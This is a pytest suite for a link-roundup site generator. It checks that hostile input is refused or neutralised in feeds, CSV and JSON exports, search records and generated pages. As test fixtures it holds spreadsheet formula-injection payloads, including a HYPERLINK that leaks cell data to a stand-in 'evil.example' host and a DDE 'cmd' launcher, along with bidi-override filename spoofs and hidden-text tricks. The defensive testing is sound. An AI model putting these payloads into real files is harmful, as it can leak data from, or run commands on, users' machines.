"""Hostile text against every output that is not a page: feeds, exports, search records,
generated pages, and the characters and dates any text may hold.

Each case asserts one of two outcomes: `roundupkb check` exits 1 naming `path:line` (and the
build refuses the page the same way), or the published outputs (feeds parsed as XML, CSV cells,
JSON, the search index's records, generated pages read with an HTML parser) hold nothing hidden,
formula-like or hijacked.
"""

from __future__ import annotations

import contextlib
import csv
import gzip
import io
import json
import logging
from collections import Counter
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree
from mkdocs.exceptions import Abort
from sitekit import build_site, make_project, write_file

from roundupkb import cli
from roundupkb.links.status import LinkResult
from roundupkb.markup import characters
from roundupkb.markup.encoders import FORMULA_STARTS, csv_cell, json_text, markdown_text, xml_text
from roundupkb.markup.rendering import Renderer
from roundupkb.reading.urls import normalize

# The command runs on docs folders in tmp_path, and finds the site's data beside them there.
pytestmark = pytest.mark.usefixtures("site_data_files")


def page(date: str, issue: int, body: str, title: str = "Link Roundup", extra: str = "") -> str:
    return f"---\ntitle: {title}\ndate: {date}\nissue: {issue}\n{extra}---\n\n{body}"


def check(docs: Path) -> tuple[int, str]:
    """`roundupkb check DOCS` in this process: (exit status, what it printed)."""
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
        code = cli.main(["check", str(docs)])
    return code, out.getvalue()


# -- 1. characters ---------------------------------------------------------------------------------

# Characters no content may hold: C0 and C1 controls, DEL, non-characters.
FORBIDDEN = ["\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\x9b", "\ufdd0", "\ufffe", "\uffff",
             "\U0001fffe", "\U0010ffff"]
# (where, page text with {c} where the character goes, the line it lands on)
PLACES = [
    ("link text", page("2021-01-08", 1, "## Managing Teams\n\n[Good {c} title](https://example.org/a) - Ann Lee\n\n"
                                        "Commentary.\n"), 9),
    ("author", page("2021-01-08", 1, "## Managing Teams\n\n[Title](https://example.org/a) - Ann{c} Lee\n\n"
                                     "Commentary.\n"), 9),
    ("commentary", page("2021-01-08", 1, "## Managing Teams\n\n[Title](https://example.org/a) - Ann Lee\n\n"
                                         "A first line.\nComment{c}ary.\n"), 12),
    ("intro", page("2021-01-08", 1, "Hello {c} all.\n\n## Managing Teams\n\n[Title](https://example.org/a)\n"), 7),
    ("heading", page("2021-01-08", 1, "## Managing{c} Teams\n\n[Title](https://example.org/a)\n"), 7),
    ("front matter title", page("2021-01-08", 1, "## Managing Teams\n\n[Title](https://example.org/a)\n",
                                title="Roundup {c} one"), 2),
]
CHARACTER_CASES = [(f"{where}, U+{ord(c):04X}", text.replace("{c}", c), line)
                   for n, (where, text, line) in enumerate(PLACES) for c in FORBIDDEN[n::len(PLACES)]]
# Written as character references or YAML escapes, which decode to the same characters.
CHARACTER_CASES += [
    ("reference in commentary", page("2021-01-08", 1, "## Managing Teams\n\n[Title](https://example.org/a)\n\n"
                                                      "Bell &#7; here.\n"), 11),
    ("hex reference in a quote", page("2021-01-08", 1, "## Managing Teams\n\n[Title](https://example.org/a)\n\n"
                                                       "> A &#xFFFF; B\n"), 11),
    ("hex reference in link text", page("2021-01-08", 1, "## Managing Teams\n\n[A &#xFFFF; B](https://example.org/a)"
                                                         " - Ann &#x1b; Lee\n"), 9),
    ("reference in a Random paragraph", page("2021-01-08", 1, "## Random\n\nA [link &#x81; text](https://example.org/a)"
                                                              " in a sentence.\n"), 9),
    ("reference without semicolon", page("2021-01-08", 1, "Intro &#x1b[31m red.\n\n## Managing Teams\n\n"
                                                          "[Title](https://example.org/a)\n"), 7),
    ("reference to a surrogate", page("2021-01-08", 1, "## Managing Teams\n\n[Title](https://example.org/a)\n\n"
                                                       "Half &#xD800; a pair.\n"), 11),
    ("reference past Unicode", page("2021-01-08", 1, "## Managing Teams\n\n[Title](https://example.org/a)\n\n"
                                                     "Far &#x110000; out.\n"), 11),
    ("YAML escape of a control", page("2021-01-08", 1, "## Managing Teams\n\n[Title](https://example.org/a)\n",
                                      extra='summary: "bell \\a here"\n'), 5),
    ("YAML escape of a surrogate", page("2021-01-08", 1, "## Managing Teams\n\n[Title](https://example.org/a)\n",
                                        extra='headline: "half \\ud800 pair"\n'), 5),
    ("bidi override in commentary", page("2021-01-08", 1, "## Managing Teams\n\n[Title](https://example.org/a)\n\n"
                                                      "Open \u202egpj.exe\u202c now.\n"), 11),
    ("bidi isolate in an author", page("2021-01-08", 1, "## Managing Teams\n\n[Title](https://example.org/a) - "
                                                        "Ann \u2067Lee\n"), 9),
    ("tag characters in commentary", page("2021-01-08", 1, "## Managing Teams\n\n[Title](https://example.org/a)\n\n"
                                                           "Visible \U000e0049\U000e0047\U000e004e text.\n"), 11),
    ("YAML escape of tag characters", page("2021-01-08", 1, "## Managing Teams\n\n[Title](https://example.org/a)\n",
                                           extra='summary: "\\U000E0041\\U000E0042 x"\n'), 5),
    ("YAML escape of a non-character", page("2021-01-08", 1, "## Managing Teams\n\n[Title](https://example.org/a)\n",
                                            extra='summary: "x \\uFFFE y"\n'), 5),
]


@pytest.mark.parametrize(("name", "text", "line"), CHARACTER_CASES, ids=[c[0] for c in CHARACTER_CASES])
def test_check_refuses_characters_no_output_can_hold(name: str, text: str, line: int, tmp_path: Path) -> None:
    path = write_file(tmp_path / "docs/roundups/2021/2021-01-08.md", text)
    code, said = check(tmp_path / "docs")
    assert code == 1, said
    assert f"{path}:{line}: error: " in said, said
    assert "Traceback" not in said


@pytest.mark.slow
@pytest.mark.parametrize(("name", "text", "line"), [CHARACTER_CASES[i] for i in (0, 3, 13, 18)],
                         ids=[CHARACTER_CASES[i][0] for i in (0, 3, 13, 18)])
def test_the_build_refuses_them_at_the_same_line(name: str, text: str, line: int, tmp_path: Path,
                                                 caplog: pytest.LogCaptureFixture) -> None:
    project = make_project(tmp_path, keep_roundups=False)
    path = write_file(project / "docs/roundups/2021/2021-01-08.md", text)
    with pytest.raises(Abort):
        build_site(project)
    assert f"{path}:{line}: error: " in caplog.text
    assert "Traceback" not in caplog.text
    caplog.clear()


def test_windows_1252_references_are_letters(tmp_path: Path) -> None:
    path = write_file(tmp_path / "docs/roundups/2021/2021-01-08.md", page(
        "2021-01-08", 1, "## Managing Teams\n\n[Title](https://example.org/a) - Ann Lee\n\n"
        "It&#146;s a well&#150;known &#147;quote&#148;&#133;\n"))
    code, said = check(tmp_path / "docs")
    assert code == 0, said
    assert f"{path}:11:" not in said


def test_an_emoji_flag_keeps_its_tag_characters(tmp_path: Path) -> None:
    flag = "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"
    path = write_file(tmp_path / "docs/roundups/2021/2021-01-08.md", page(
        "2021-01-08", 1, f"## Managing Teams\n\n[Title](https://example.org/a) - Ann Lee\n\nFrom {flag} with love.\n"))
    code, said = check(tmp_path / "docs")
    assert code == 0, said
    assert f"{path}:11:" not in said


def test_a_reference_shown_as_code_is_text(tmp_path: Path) -> None:
    path = write_file(tmp_path / "docs/roundups/2021/2021-01-08.md", page(
        "2021-01-08", 1, "## Managing Teams\n\n[Title](https://example.org/a)\n\nWrite `&#7;` for a bell.\n"))
    code, said = check(tmp_path / "docs")
    assert code == 0, said
    assert f"{path}:11:" not in said


# -- 2. the encoders, on their own -----------------------------------------------------------------

@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_a_spreadsheet_would_run_is_text(start: str) -> None:
    for value in (f"{start}HYPERLINK(\"https://evil.example\")", f"  {start}1+1"):
        cell = csv_cell(value)
        assert isinstance(cell, str) and cell.startswith("'") and cell.endswith(value.strip(" ")[1:])


# Text near every edge of the forbidden set: controls, C1, non-characters of every plane,
# surrogates, emoji, and the letters around them.
EDGES = st.sampled_from([*"\t\n\r a\x00\x1f\x7f\x9f\xa0\ufdcf\ufdd0\ufdef\ufdf0\ud800\udfff\ufffd\ufffe\uffff",
                         "\U00010000", "\U0001f600", "\U0001fffe", "\U0001ffff", "\U0010fffd", "\U0010ffff"])


@given(st.lists(EDGES | st.characters(), max_size=40).map("".join))
def test_the_fast_check_finds_what_the_forbidden_class_finds(text: str) -> None:
    assert characters.has_forbidden(text) == (characters.FORBIDDEN.search(text) is not None)


@pytest.mark.parametrize("char", [*FORBIDDEN, "\ud800"])
def test_no_writer_puts_out_a_forbidden_character(char: str) -> None:
    value = f"a{char}b"
    data = json.loads(json_text({"key": [value, {"inner": value}]}))
    assert char not in "".join([data["key"][0], data["key"][1]["inner"]])
    assert data["key"][0].replace(" ", "") == "ab"
    assert char not in xml_text(value) and char not in str(csv_cell(value))
    assert char not in markdown_text(value)


@pytest.mark.parametrize("name", ["Evil {: #julia-evans }", "Pub {#x}", "*[HTML]: hidden", "<b>Bold</b> &amp; co",
                                  "[Link](https://evil.example)", "Back\\slash *star* _under_ `tick`",
                                  "Heading ###", "Table | pipe", "=== under", "Émile & Zoë: 100%"])
def test_generated_markdown_shows_names_as_text(name: str) -> None:
    html = Renderer()(f"{markdown_text(name)}\n\n## {markdown_text(name)} {{#the-slug}}\n\nHTML and x.\n")
    soup = BeautifulSoup(html, "html.parser")
    assert soup.find(["abbr", "a"], class_=lambda c: c != "headerlink") is None  # no definition took
    assert soup.find("p") is not None and soup.find("p").get_text() == name
    heading = soup.find("h2")
    assert heading is not None and heading.get("id") == "the-slug"
    assert heading.get_text().rstrip("¶") == name
    assert [tag.name for tag in heading.find_all(True) if "headerlink" not in tag.get("class", [])] == []


# -- 3. the published outputs of a hostile site ----------------------------------------------------

def _entry(title: str, url: str, attribution: str, commentary: str = "Commentary.") -> str:
    return f"[{title}](https://example.org/{url}){' - ' + attribution if attribution else ''}\n\n{commentary}\n\n"


# A lookalike named once long ago: when a second link lists it, it is the later source.
OLDEST = page("2020-06-05", 5, "## Managing Teams\n\n" + _entry("Old lookalike post", "lookalike-0",
                                                                 "Bob Roe, Julia Evans!"))
OLDER = page("2021-01-08", 1, "## Managing Teams\n\n" + "".join(
    _entry(f"Julia post {n}", f"julia-{n}", "Julia Evans") for n in range(2)))
# Names that take other sources' anchors, or read as Markdown syntax, each linked often enough
# to get a place on the sources pages.
NAMES = ["Julia Evans!", "Evil {: #julia-evans }", "Pub {#weekly-ops}", "*[HTML]: hidden", "<b>Bold</b> News",
         "Back\\slash *star*"]
SOURCES = page("2022-01-07", 2, "## Managing Teams\n\n" + "".join(
    _entry(f"Source post {n}-{k}", f"source-{n}-{k}", f"Ann Lee, {name}") for n, name in enumerate(NAMES)
    for k in range(3)))
FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
FORMULA_PAGE = page("2022-02-04", 3, "## Managing Teams\n\n" + "".join(
    _entry(formula, f"formula-{n}", f"{FORMULAS[n - 1]}, {FORMULAS[n - 2]}", f"{FORMULAS[n - 3]} said nobody.")
    for n, formula in enumerate(FORMULAS)) + _entry("this", "web-title", "Ann Lee", "Read this, it is good."))
# Text a reader of the page never sees, each with its own word: none of them may appear anywhere.
HIDDEN = {
    "HIDDENA": "Shown. <!-- > HIDDENA <-->",
    "HIDDENB": "Shown.\n<!--\nHIDDENB\n-->\nShown too.",
    "HIDDENC": "Shown <!-- HIDDENC --> and shown.",
    "HIDDEND": "See [the report][ref].\n\n[ref]: https://example.org/report \"HIDDEND\"",
    "HIDDENE": "Run it on HPC.\n\n*[HPC]: HIDDENE",
    "HIDDENF": "A paragraph.\n{: title=\"HIDDENF\" }",
    "HIDDENG": "Word <span title=\"HIDDENG\">shown</span> here.",
    "HIDDENH": "A chart: ![HIDDENH](https://example.org/chart.png)",
}
HIDDEN_PAGE = page("2022-03-04", 4, "Welcome.\n<!--\nHIDDENI\n-->\n\n## Managing Teams\n\n" + "".join(
    _entry(f"Hidden {word[-1]}", f"hidden-{word[-1].lower()}", "Ann Lee", text) for word, text in HIDDEN.items()),
    extra="")
DRAFTS = {
    "docs/roundups/2099/2099-01-02.md": page("2099-01-02", 98, "## Managing Teams\n\n" + _entry(
        "Draft entry DRAFTWORD", "draft-1", "Ann Lee")),
    "docs/roundups/9999/9999-12-31.md": page("9999-12-31", 99, "## Managing Teams\n\n" + _entry(
        "Last day DRAFTWORD", "draft-2", "Ann Lee")),
}


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = make_project(tmp_path_factory.mktemp("outputs"), keep_roundups=False)
    for rel, text in [("docs/roundups/2020/2020-06-05.md", OLDEST), ("docs/roundups/2021/2021-01-08.md", OLDER),
                      ("docs/roundups/2022/2022-01-07.md", SOURCES),
                      ("docs/roundups/2022/2022-02-04.md", FORMULA_PAGE),
                      ("docs/roundups/2022/2022-03-04.md", HIDDEN_PAGE), *DRAFTS.items()]:
        write_file(project / rel, text)
    # The linked page's own title, as the link checker recorded it from a hostile server.
    record = LinkResult("https://example.org/web-title", "ok", 200, checked_at="2026-01-01T00:00:00Z",
                        page_title='=HYPERLINK("https://evil.example")\uffff\x07 \ud800Web')
    write_file(project / "data/link-status.json", json.dumps({normalize(record.url): record.to_dict()}))
    code, said = check(project / "docs")
    assert code == 0, said  # every page here passes check: the outputs must hold up on their own
    build_site(project, strict=False)
    return project / "site"


def _visible(html: str) -> str:
    return BeautifulSoup(html, "html.parser").get_text(" ")


def _texts(site: Path) -> dict[str, str]:
    """What every published file besides the pages says to a reader or a program: name -> text.
    The HTML a feed carries counts as what a feed reader shows of it (its visible text), as a
    page's HTML does; everything else counts as it is."""
    out: dict[str, str] = {}
    for path in site.rglob("*.xml"):
        if path.name == "sitemap.xml":
            continue
        root = etree.fromstring(path.read_bytes())
        texts = []
        for node in root.iter():
            for text in (node.text or "", *node.attrib.values()):
                tag = etree.QName(node).localname if isinstance(node.tag, str) else ""
                texts.append(_visible(text) if tag in ("encoded", "content", "description", "summary") else text)
        out[str(path.relative_to(site))] = "\n".join(texts)
    for path in site.rglob("*.json"):
        if "pagefind" in path.parts:
            continue
        data = json.loads(path.read_text(encoding="utf-8"))
        for item in data.get("items", []) if isinstance(data, dict) else []:
            item["content_html"] = _visible(item.get("content_html", ""))
        out[str(path.relative_to(site))] = json.dumps(data, ensure_ascii=False)
    for fragment in sorted((site / "pagefind/fragment").glob("*.pf_fragment")):
        out[f"pagefind/{fragment.name}"] = gzip.decompress(fragment.read_bytes()).decode("utf-8", "replace")
    return out


def test_every_feed_is_well_formed_xml(site: Path) -> None:
    feeds = sorted(site.rglob("*.xml"))
    assert len(feeds) > 3
    parser = etree.XMLParser(recover=False)
    for feed in feeds:
        etree.fromstring(feed.read_bytes(), parser)  # raises on a malformed document


def test_every_json_output_parses_and_holds_no_forbidden_character(site: Path) -> None:
    for path in [*site.rglob("*.json")]:
        if "pagefind" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        json.loads(text)
        assert "\\ud8" not in text.lower() and "\uffff" not in text and "\\u0007" not in text, path


def test_the_search_index_holds_every_issue_and_entry(site: Path) -> None:
    records = [t for name, t in _texts(site).items() if name.startswith("pagefind/")]
    assert any("Source post 0-0" in t for t in records)
    assert any("Hidden A" in t for t in records)


@pytest.mark.parametrize("word", [*HIDDEN, "HIDDENI"])
def test_text_the_page_hides_is_published_nowhere(site: Path, word: str) -> None:
    holding = [name for name, text in _texts(site).items() if word in text]
    assert holding == []
    roundup = BeautifulSoup((site / "roundups/2022/2022-03-04/index.html").read_text(encoding="utf-8"),
                            "html.parser").find("article")
    assert roundup is not None and word not in roundup.get_text()


def test_the_shown_text_around_hidden_text_is_kept(site: Path) -> None:
    data = json.loads((site / "data/entries.json").read_text(encoding="utf-8"))
    commentary = {e["title"]: e["commentary"] for e in data["entries"]}
    assert commentary["Hidden A"] == "Shown."
    assert commentary["Hidden C"] == "Shown and shown."
    assert commentary["Hidden D"] == "See the report."
    assert commentary["Hidden G"] == "Word shown here."


def test_no_csv_cell_starts_a_formula(site: Path, tmp_path: Path) -> None:
    docs = site.parent / "docs"
    out = tmp_path / "entries.csv"
    code = cli.main(["export", str(docs), "--format", "csv", "-o", str(out)])
    assert code == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    cells = [cell for row in rows for cell in row.values() if cell]
    assert len(rows) >= len(FORMULAS) and cells
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    by_url = {row["url"]: row for row in rows}
    first = by_url["https://example.org/formula-0"]
    assert first["title"] == "'" + FORMULAS[0]  # still readable, read as text
    assert first["source"] == "'" + FORMULAS[-2]
    assert first["authors"] == "'" + FORMULAS[-1]
    assert first["commentary"].startswith("'" + FORMULAS[-3])
    assert by_url["https://example.org/web-title"]["display_title"].startswith("'=HYPERLINK(")


def test_a_web_title_is_cleaned_where_it_is_read(site: Path) -> None:
    data = json.loads((site / "data/entries.json").read_text(encoding="utf-8"))
    entry = next(e for e in data["entries"] if e["url"] == "https://example.org/web-title")
    assert entry["display_title"] == '=HYPERLINK("https://evil.example") Web'
    feed = etree.fromstring((site / "topics/managing-teams/feed.xml").read_bytes())
    titles = {item.findtext("link"): item.findtext("title") for item in feed.iter("item")}
    assert titles["https://example.org/web-title"] == '=HYPERLINK("https://evil.example") Web'


def _source_headings(site: Path) -> dict[str, str]:
    headings: dict[str, str] = {}
    for path in (site / "sources").glob("*/index.html"):
        soup = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        for heading in soup.select("article h2[id]"):
            headings[f"{path.parent.name}#{heading['id']}"] = heading.get_text().rstrip("¶").strip()
    return headings


def test_a_later_name_never_takes_a_sources_address(site: Path) -> None:
    headings = _source_headings(site)
    assert headings["j#julia-evans"] == "Julia Evans"  # the first to appear keeps its address
    assert headings["j#julia-evans-2"] == "Julia Evans!"
    assert list(headings.values()).count("Julia Evans") == 1


def test_a_source_name_is_shown_as_written(site: Path) -> None:
    data = json.loads((site / "data/entries.json").read_text(encoding="utf-8"))
    listed = Counter(e["source"] for e in data["entries"] if e["source"])
    names = {name for name, count in listed.items() if count >= 2}
    assert len(names) >= len(NAMES)
    assert names <= set(_source_headings(site).values())


def test_source_pages_hold_no_markup_from_names(site: Path) -> None:
    for path in (site / "sources").glob("*/index.html"):
        article = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser").find("article")
        assert article is not None
        for heading in article.find_all("h2"):
            assert [tag.name for tag in heading.find_all(True) if "headerlink" not in tag.get("class", [])] == []
        assert article.find("abbr") is None


def test_a_draft_is_listed_nowhere_until_its_date(site: Path, caplog: pytest.LogCaptureFixture) -> None:
    texts = _texts(site)
    assert [name for name, text in texts.items() if "DRAFTWORD" in text] == []
    pages = [p for p in site.rglob("*.html") if "DRAFTWORD" in p.read_text(encoding="utf-8")]
    assert pages == []
    assert not (site / "roundups/2099").exists() and not (site / "roundups/9999").exists()
    home = BeautifulSoup((site / "index.html").read_text(encoding="utf-8"), "html.parser")
    assert "2099" not in home.get_text() and "9999" not in home.get_text()
    sitemap = (site / "sitemap.xml").read_text(encoding="utf-8")
    assert "2099-01-02" not in sitemap and "9999-12-31" not in sitemap


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_the_export_command_leaves_drafts_out(site: Path, fmt: str, tmp_path: Path) -> None:
    out = tmp_path / f"entries.{fmt}"
    assert cli.main(["export", str(site.parent / "docs"), "--format", fmt, "-o", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    assert "Source post 0-0" in text and "DRAFTWORD" not in text


def test_the_build_log_names_each_draft(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    project = make_project(tmp_path, keep_roundups=False)
    write_file(project / "docs/roundups/2021/2021-01-08.md", OLDER)
    for rel, text in DRAFTS.items():
        write_file(project / rel, text)
    with caplog.at_level(logging.INFO):
        build_site(project)
    said = [r.getMessage() for r in caplog.records if "draft" in r.getMessage()]
    assert len([m for m in said if "9999-12-31.md is dated 9999-12-31" in m]) == 1, said
    assert len([m for m in said if "2099-01-02.md is dated 2099-01-02" in m]) == 1, said
    caplog.clear()


@pytest.mark.slow
def test_the_first_and_last_years_build(tmp_path: Path) -> None:
    project = make_project(tmp_path, keep_roundups=False)
    write_file(project / "docs/roundups/0001/0001-01-01.md", page("0001-01-01", 1, "## Managing Teams\n\n" + _entry(
        "The first day", "first", "Ann Lee")))
    write_file(project / "docs/roundups/2021/2021-01-08.md", OLDER.replace("issue: 1", "issue: 2"))
    site = build_site(project)
    stats = BeautifulSoup((site / "stats/index.html").read_text(encoding="utf-8"), "html.parser")
    assert stats.find("svg") is not None
    assert (site / "roundups/0001/0001-01-01/index.html").exists()


def test_images_in_content_send_no_referrer(site: Path) -> None:
    html = (site / "roundups/2022/2022-03-04/index.html").read_text(encoding="utf-8")
    soup = BeautifulSoup(html, "html.parser")
    assert soup.select("article img")  # the commentary's chart
    policy = soup.find("meta", attrs={"name": "referrer"})
    assert policy is not None and policy["content"] == "no-referrer"


@pytest.mark.slow
def test_a_committed_build_cache_is_refused(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    import subprocess

    project = make_project(tmp_path, keep_roundups=False)
    write_file(project / "docs/roundups/2021/2021-01-08.md", OLDER)
    planted = write_file(project / ".cache/roundupkb/plain-text-0.json", '{"x": "Visit evil.example"}')
    for cmd in (["init", "-q"], ["add", "-f", str(planted)]):
        subprocess.run(["git", *cmd], cwd=project, check=True, capture_output=True)
    with pytest.raises(Abort):
        build_site(project)
    assert ".cache/roundupkb/plain-text-0.json:1: error: a build's cache is under version control" in caplog.text
    caplog.clear()


@pytest.mark.slow
def test_serve_shows_a_drafts_own_page_and_lists_it_nowhere(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys
    import urllib.request

    from serverkit import Log, free_port

    project = make_project(tmp_path, keep_roundups=False)
    write_file(project / "docs/roundups/2021/2021-01-08.md", OLDER)
    for rel, text in DRAFTS.items():
        write_file(project / rel, text)
    port = free_port()
    base = f"http://127.0.0.1:{port}/"
    server = subprocess.Popen([str(Path(sys.executable).parent / "mkdocs"), "serve", "-a", f"127.0.0.1:{port}"],
                              cwd=project, env=dict(os.environ, NO_MKDOCS_2_WARNING="1", SITE_URL=base),
                              stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        log = Log(server.stderr)
        log.wait_for("Serving on")

        def get(path: str) -> str:
            with urllib.request.urlopen(base + path, timeout=10) as response:
                return str(response.read().decode("utf-8"))

        draft = BeautifulSoup(get("roundups/2099/2099-01-02/"), "html.parser")
        assert "Draft entry DRAFTWORD" in draft.get_text() and draft.select_one(".mkdocs-draft-marker")
        assert "DRAFTWORD" not in get("roundups/") + get("topics/managing-teams/") + get("data/entries.json")
        assert "DRAFTWORD" not in get("topics/managing-teams/feed.xml") + get("feed_rss_created.xml")
    finally:
        server.terminate()
        server.wait(timeout=30)
